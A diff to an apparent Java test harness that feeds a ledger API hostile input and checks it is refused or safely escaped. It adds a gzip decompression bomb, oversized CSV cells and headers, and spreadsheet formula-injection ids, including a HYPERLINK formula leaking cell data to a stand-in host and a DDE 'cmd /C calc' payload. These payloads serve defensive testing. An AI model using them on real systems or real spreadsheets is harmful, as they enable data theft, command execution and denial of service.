@@ -50,6 +50,8 @@ public final class BadInputHarness {
     private static final String SQL = "x'); DROP TABLE usage_event; --";
     private static final String SCRIPT = "<script>alert('kpi')</script>";
     private static final String QUARTER = "2024-Q3";
+    /** A valid case's voucher id that a spreadsheet would run as a formula. */
+    private static final String FORMULA_VOUCHER = "=1+2";
     /** Sketches built with Apache DataSketches 6.2, base64: HLL_8 lgK 12 of {rb-user-1, rb-user-2} and of {rb-user-1}. */
     private static final String HLL_TWO = "AgEHDAMIAgghjxQTshtkBg==";
     private static final String HLL_ONE = "AgEHDAMIAQghjxQT";
@@ -433,7 +435,7 @@ public final class BadInputHarness {
                 for (JsonNode e : n) {
                     String id = e.path(e.has("voucherId") ? "voucherId" : e.has("quarter") ? "quarter" : e.has("modelId")
                             ? "modelId" : e.has("customerId") ? "customerId" : "appId").asText();
-                    if (!id.startsWith("rb-ok-") && !id.equals("2019-Q1")) {
+                    if (!id.startsWith("rb-ok-") && !id.equals("2019-Q1") && !id.equals(FORMULA_VOUCHER)) {
                         kept.add(e);
                     }
                 }
@@ -549,6 +551,22 @@ public final class BadInputHarness {
             gz.write(data);
         } catch (java.io.IOException e) {
             throw new java.io.UncheckedIOException(e);
+        }
+        return out.toByteArray();
+    }
+
+    /**
+     * The text, then 2 GiB of {@code c}, in about 2 MB of gzip: one member of a MiB of {@code c}, repeated (a gzip
+     * stream may hold several members, and gzip readers read them all).
+     */
+    private static byte[] gzipBomb(String text, char c) {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        out.writeBytes(gzip(text.getBytes(StandardCharsets.UTF_8)));
+        byte[] mebibyte = new byte[1 << 20];
+        java.util.Arrays.fill(mebibyte, (byte) c);
+        byte[] member = gzip(mebibyte);
+        for (int i = 0; i < 2048; i++) {
+            out.writeBytes(member);
         }
         return out.toByteArray();
     }
@@ -1342,6 +1360,21 @@ public final class BadInputHarness {
                 Map.of("Content-Encoding", "gzip"));
         focus("a Content-Encoding the import does not take", (header + good).getBytes(StandardCharsets.UTF_8),
                 Map.of("Content-Encoding", "br"), 415);
+        // Sizes the CSV parser would build in memory: refused at the field, row and column bounds (413), quickly.
+        String toTags = "rb-focus,2024-08-01T00:00:00Z,2024-08-10T04:00:00Z,Usage,,1.00,CNY,Compute,,,";
+        focus("a Tags cell of 1 MB", header + good + toTags + "\"{" + "x".repeat(1 << 20) + "}\"\n", 413);
+        focus("a BilledCost cell of 1 MB of digits", header + good + "rb-focus,2024-08-01T00:00:00Z,2024-08-10T04:00:00Z,"
+                + "Usage,,1" + "0".repeat(1 << 20) + ",CNY,Compute,,,\n", 413);
+        focus("a quoted cell of 100,000 line breaks", header + good + toTags + "\"" + "\n".repeat(100_000) + "\"\n", 413);
+        focus("a row of 2 MB without a line break (fields of 60,000 characters)", header + good
+                + ("y".repeat(60_000) + ",").repeat(35), 413);
+        focus("a header of 1,001 columns", header.strip() + ",x".repeat(990) + "\n" + good, 413);
+        focus("a header of 1 MB of commas", ",".repeat(1 << 20), 413);
+        focus("a header column name of 1 MB", "x".repeat(1 << 20) + "," + header + good, 413);
+        focus("a 2 MB gzip stream inflating to 2 GiB of one cell", gzipBomb(header + good + toTags + "\"", 'x'),
+                Map.of("Content-Encoding", "gzip"), 413);
+        focus("a 2 MB gzip stream inflating to a header of 2 GiB of commas", gzipBomb("", ','),
+                Map.of("Content-Encoding", "gzip"), 413);
         cases.add(new Case("/api/v1/ledger/imports", "JSON instead of CSV", "POST", B, "/api/v1/ledger/imports",
                 "[]".getBytes(StandardCharsets.UTF_8), "application/json", false, Set.of(415), null, Map.of()));
 
@@ -1473,6 +1506,29 @@ public final class BadInputHarness {
             pass &= row(rows, T, "benchmark name " + Services.abbreviate(id, 24) + " (POST " + b.status() + ")", "1 result",
                     bget.status() == 200 ? bget.json().size() + " result" + (bget.json().size() == 1 ? "" : "s") : bget.summary());
         }
+
+        // Ids a spreadsheet would run as formulas: stored verbatim, and the ledger export writes them as quoted text
+        // with a single quote in front (2019-02, in the harness's own quarter); amounts stay numbers.
+        String link = "=HYPERLINK(\"http://rb.example/?\"&A1,\"open\")";
+        s.putJson(B, "/api/v1/vouchers/" + enc(FORMULA_VOUCHER), "{\"customerId\":\"rb-inv\",\"customerKind\":\"INVESTEE\","
+                + "\"amountCny\":5.00,\"issuedOn\":\"2019-01-01\",\"expiresOn\":\"2019-12-31\"}");
+        Answer formulas = s.postJson(B, "/api/v1/ledger/lines", "["
+                + line(link, "rb-cust", "EXTERNAL", null, "2019-02-03", "IAAS", "3.00", "CASH", null, null, null) + ","
+                + line("@SUM(1+1)*cmd|' /C calc'!A0", "rb-cust", "EXTERNAL", null, "2019-02-04", "IAAS", "2.00", "CASH", null, null, null) + ","
+                + line("-2+3", "rb-cust", "EXTERNAL", null, "2019-02-05", "IAAS", "-1.25", "CASH", null, null, link) + ","
+                + line("+rb-formula", "rb-inv", "INVESTEE", null, "2019-02-06", "AI_COMPUTE", "1.50", "VOUCHER", FORMULA_VOUCHER, null, null)
+                + "]");
+        pass &= row(rows, B, "ledger lines with formula ids", "accepted 4",
+                formulas.status() == 200 ? "accepted " + formulas.json().path("accepted").asInt() : formulas.summary());
+        Answer export = s.get(B, "/api/v1/ledger/export?period=2019-02");
+        String csv = export.body() == null ? "" : export.body();
+        for (String id : List.of(link, "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "+rb-formula", FORMULA_VOUCHER)) {
+            String cell = "\"'" + id.replace("\"", "\"\"") + "\"";
+            pass &= row(rows, B, "export cell of " + Services.abbreviate(id, 24), cell,
+                    csv.contains("," + cell + ",") || csv.contains("," + cell + "\n") ? cell : "not found in " + export.status()
+                            + " " + Services.abbreviate(csv, 200), csv.contains(cell) && !csv.contains("," + id.replace("\"", "\"\"")));
+        }
+        pass &= row(rows, B, "export amounts stay numbers", ",-1.25,", csv.contains(",-1.25,") ? ",-1.25," : "missing");
 
         // The largest numbers the rules allow, more than once: the figures must still be read (December 2023, a period
         // the gateway never asks for in these harnesses).
